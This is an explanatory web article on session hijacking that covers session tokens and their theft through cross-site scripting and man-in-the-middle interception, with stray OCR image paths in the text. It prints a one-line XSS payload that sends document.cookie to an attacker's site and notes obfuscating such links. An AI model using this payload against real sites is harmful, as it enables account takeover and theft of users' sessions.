Basics of Session Hijacking

Session hijacking ( cookie hijacking or cookie side-jacking) is a cyber-attack in which attackers take over a legitimate user’s computer session to obtain their session ID and then act as that user on any number of network services. This type of attack is hazardous to application security because it allows attackers to gain unauthorized access to protected accounts under the legitimate user.

The http connection is a state less connection, the web server needs a method to recognize every user’s connections. The most useful method depends on a token that the Web Server sends to the client browser after a successful client authentication. A session token is normally composed of a string of variable width and it could be used in different ways, like in the URL, in the header of the http requisition as a cookie, in other parts of the header of the http request, or yet in the body of the http requisition. The Session Hijacking attack compromises the session token by stealing or predicting a valid session token to gain unauthorized access to the Web Server. The session token could be compromised in different ways.

The attacker can compromise the session token by using malicious code or programs running at the client-side. The example shows how the attacker could use an XSS attack to steal the session token. If an attacker sends acrafted link to the victim with the malicious JavaScript, when the victim clicks on the link, theJavaScript will run and complete the instructions made by the attacker. The example in figure 3 uses an XSS attack to show the cookie value of the current session; using the same technique it’s possible to create a specific JavaScript code that will send the cookie to the attacker.




For example, attackers may distribute emails or messages with a specially crafted link pointing to a known and trusted website but containing HTTP query parameters that exploit a known vulnerability to inject script code. For an XSS attack used for session hijacking, the code might send the session key to the attacker’s own website, forinstance:<script>location.href=''+document.cookie;</script>

This would read the current session cookie using document.cookie and send it to the attacker’s website by setting the location URL in the browser using location.href. In real life, such links may use character encoding to obfuscate the code and URL shortening services to avoid suspiciously long links. In this case, a successful attack relies on the application and web server accepting and executing unsanitized input from the HTTP request.

By using Man in the middle attack and Man in the middlebrowser attack intercept the informationexchange between the client and the server. By this we attacker also compromise the Session veriables easily.